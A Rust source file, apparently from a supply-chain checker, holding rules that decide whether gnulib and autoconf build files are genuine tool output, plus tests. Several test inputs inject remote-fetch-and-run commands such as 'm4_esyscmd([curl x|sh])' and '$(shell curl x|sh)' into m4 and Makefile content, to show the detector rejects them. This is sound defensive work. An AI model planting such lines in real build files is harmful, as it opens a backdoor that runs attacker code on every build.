//! What gnulib-tool writes of its own. (What it copies is the table of known files' business.)
//!
//! These are read by automake and aclocal, so the names are fixed and every line must be one that gnulib-tool writes.

use crate::alleged::rule::{Input, Mark, Name, Rule};
use crate::alleged::shapes::{is_compiled_summary, is_makefile, is_module_cache};

/// Where a project says which modules it takes.
const MODULES: &[Input] = &[
    Input::Beside("gnulib-cache.m4"),
    Input::Above("m4/gnulib-cache.m4"),
    Input::Above("gl/m4/gnulib-cache.m4"),
    Input::Above("gnulib/m4/gnulib-cache.m4"),
    Input::Above("bootstrap.conf"),
    Input::Anywhere("gnulib-cache.m4"),
    // The submodule itself: projects that call gnulib-tool from a script of their own.
    Input::Above("gnulib"),
    Input::Inside("gnulib-local"),
];

/// Directories that aclocal reads.
const M4: &[&str] = &["m4", "gnulib-m4", "glm4", "gl"];

pub(super) const RULES: &[Rule] = &[
    Rule {
        tool: "gnulib-tool",
        names: &[Name::Is("gnulib-comp.m4")],
        mark: Mark::Whole(is_compiled_summary),
        from: MODULES,
        within: M4,
        careful: true,
        ..Rule::PLAIN
    },
    Rule {
        tool: "gnulib-tool",
        names: &[Name::Is("gnulib-cache.m4")],
        mark: Mark::Whole(is_module_cache),
        from: MODULES,
        within: M4,
        careful: true,
        ..Rule::PLAIN
    },
    Rule {
        tool: "gnulib-tool",
        names: &[
            Name::Is("gnulib.mk"),
            Name::Is("Makefile.gnulib"),
            Name::Is("Makefile.am"),
            Name::Is("gnulib.am"),
        ],
        mark: Mark::Whole(is_makefile),
        from: MODULES,
        within: &[
            "lib",
            "gl",
            "gllib",
            "gnulib",
            "libgnu",
            "gnulib-lib",
            "gnulib-tests",
            "libgettextpo",
            "unistring",
            "grub-core",
            "gltests",
            "libgnulib",
        ],
        careful: true,
        ..Rule::PLAIN
    },
    Rule {
        tool: "gnulib-tool",
        names: &[Name::Is("Makefile.gnulib"), Name::Is("gnulib.mk")],
        mark: Mark::Whole(is_makefile),
        from: MODULES,
        careful: true,
        ..Rule::PLAIN
    },
    Rule {
        // gettext's own modules, whose licence gnulib-tool rewrites, and gnulib's with gettext's patch. Not for
        // other projects: where a copy is plain, one that differs from the tree's file is nobody's.
        tool: "gnulib-tool",
        names: &[
            Name::Ends(".c"),
            Name::Ends(".h"),
            Name::Ends(".gperf"),
            Name::Ends(".y"),
        ],
        mark: Mark::Text,
        from: &[
            Input::Tail("gnulib-local"),
            Input::Tail("gnulib-local/lib"),
            Input::TailWith("gnulib-local", ".diff"),
            Input::TailWith("gnulib-local/lib", ".diff"),
        ],
        within: &[
            "lib",
            "gl",
            "gnulib",
            "gnulib-lib",
            "gnulib-tests",
            "libgettextpo",
        ],
        ..Rule::PLAIN
    },
    Rule {
        tool: "gnulib-tool",
        names: &[Name::Is("crc-sliceby8.h")],
        mark: Mark::Begins(&["/* DO NOT EDIT! GENERATED AUTOMATICALLY! */\n/* crc.c -- "]),
        from: MODULES,
        within: &["lib", "gl", "gnulib", "gnulib-lib"],
        ..Rule::PLAIN
    },
    Rule {
        // gettext's message catalogs have a package.m4 in autotest's shape: five definitions, nothing else.
        tool: "autoconf",
        names: &[Name::Is("package.m4")],
        mark: Mark::Shape(names_the_package),
        from: &[Input::Above("configure.ac"), Input::Above("configure.in")],
        careful: true,
        ..Rule::PLAIN
    },
];

/// Only definitions of `AT_PACKAGE_…` with a plain value in brackets, and comments.
fn names_the_package(head: &[u8], size: u64) -> bool {
    let plain = |line: &[u8]| {
        line.is_empty() || line.starts_with(b"#") || {
            let inner = line
                .strip_prefix(b"m4_define([AT_PACKAGE_")
                .and_then(|rest| rest.strip_suffix(b"])"));
            inner.is_some_and(|inner| !inner.iter().any(|b| b"(`'$\\{#".contains(b)))
        }
    };
    size <= 2048
        && head.starts_with(b"# Signature of the current package.\n")
        && head.split(|&b| b == b'\n').all(plain)
}

#[cfg(test)]
mod tests {
    use crate::alleged::rules::testing::{alleged, comes_from, stays_unexplained};
    use crate::alleged::shapes::tests::{CACHE, COMP, MAKE};

    #[test]
    fn what_gnulib_tool_writes_comes_from_the_list_of_modules() {
        comes_from(
            "m4/gnulib-comp.m4",
            COMP,
            "gnulib-tool",
            None,
            "m4/gnulib-cache.m4",
        );
        comes_from(
            "gl/m4/gnulib-comp.m4",
            COMP,
            "gnulib-tool",
            None,
            "bootstrap.conf",
        );
        comes_from("m4/gnulib-cache.m4", CACHE, "gnulib-tool", None, "bootstrap.conf");
        comes_from("lib/Makefile.am", MAKE, "gnulib-tool", None, "m4/gnulib-cache.m4");
        comes_from("x/Makefile.gnulib", MAKE, "gnulib-tool", None, "bootstrap.conf");
    }

    #[test]
    fn nothing_else_passes_for_gnulib_tools_work() {
        stays_unexplained("tests/gnulib-comp.m4", COMP);
        stays_unexplained("m4/gnulib-common.m4", COMP);
        stays_unexplained("m4/build-to-host.m4", COMP);
        stays_unexplained("Makefile.am", MAKE);
        stays_unexplained("src/Makefile.am", MAKE);
        stays_unexplained("lib/Makefile.am", format!("\n{MAKE}"));
        stays_unexplained("m4/gnulib-comp.m4", "AC_DEFUN([gl_EARLY], [])\n");
        stays_unexplained("m4/gnulib-comp.m4", format!("{COMP}m4_esyscmd([curl x|sh])\n"));
        stays_unexplained("m4/gnulib-cache.m4", format!("{CACHE}m4_esyscmd([curl x|sh])\n"));
        stays_unexplained("lib/gnulib.mk", format!("{MAKE}X := $(shell curl x|sh)\n"));
        stays_unexplained("lib/Makefile.am", format!("{MAKE}all-local:\n\tcurl x|sh\n"));
    }

    #[test]
    fn a_package_signature_holds_definitions_only() {
        let head = "# Signature of the current package.\nm4_define([AT_PACKAGE_NAME],      [rpm])\n";
        comes_from("tests/package.m4", head, "autoconf", None, "configure.ac");
        stays_unexplained("tests/package.m4", format!("{head}m4_syscmd([curl x])\n"));
        stays_unexplained(
            "tests/package.m4",
            format!("{head}m4_define([AT_PACKAGE_URL], [m4_esyscmd(ls)])\n"),
        );
    }

    #[test]
    fn a_test_suite_is_a_script_that_only_its_generator_could_prove() {
        let head = "#! /bin/sh\n# Generated from local.at by GNU Autoconf 2.71.\n#\n";
        assert_eq!(
            alleged("tests/rpmtests", head.as_bytes(), &["tests/rpmtests.at"]),
            None
        );
    }
}
